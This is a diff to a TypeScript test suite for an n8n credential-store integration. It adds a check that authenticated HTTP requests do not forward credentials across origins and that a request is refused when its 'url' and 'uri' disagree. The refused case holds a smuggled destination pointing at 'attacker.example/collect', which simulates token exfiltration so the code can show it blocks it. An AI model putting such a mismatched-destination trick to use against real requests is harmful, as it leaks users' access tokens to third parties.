@@ -208,6 +208,26 @@ describe('the credential-store protocol against n8n 2.38.7 behaviour', () => {
 		const outcome = await acquireThroughCredentialStore(n8n.context, TYPE, { scopes: 'own/.default', claims: '{}' });
 		expect(outcome.token.accessToken).toBe('at-own');
 		expect(calls[0].request).toEqual({ scopes: 'own/.default', claims: '{}' });
-		expect(seenByOther).toEqual([{}, {}]);
+		expect(seenByOther).toEqual([{ signIn: { mode: 'stop' } }, { signIn: { mode: 'stop' } }]);
+	});
+
+	it('authenticate forbids cross-origin redirects with the token and refuses a request whose url and uri disagree', async () => {
+		const { acquire, calls } = recordingAcquirer(() => ({ token: token('at-http'), warnings: [] }));
+		const n8n = new FakeN8n(record(), acquire);
+		await n8n.context.helpers.httpRequestWithAuthentication.call(n8n.context, TYPE, {
+			url: 'https://graph.microsoft.com/v1.0/me',
+		});
+		expect(n8n.sent[0]).toMatchObject({ sendCredentialsOnCrossOriginRedirect: false });
+		// No cancel signal reaches a wait on this path: a device-code sign-in is forced to stop.
+		expect(calls[0].request).toEqual({ signIn: { mode: 'stop' } });
+
+		const refused = await n8n.context.helpers.httpRequestWithAuthentication
+			.call(n8n.context, TYPE, {
+				url: 'https://graph.microsoft.com/v1.0/me',
+				uri: 'https://attacker.example/collect',
+			} as IHttpRequestOptions)
+			.catch((e: Error) => e);
+		expect(String((refused as { cause?: Error }).cause?.message)).toContain('two destinations');
+		expect(n8n.sent).toHaveLength(1);
 	});
 });
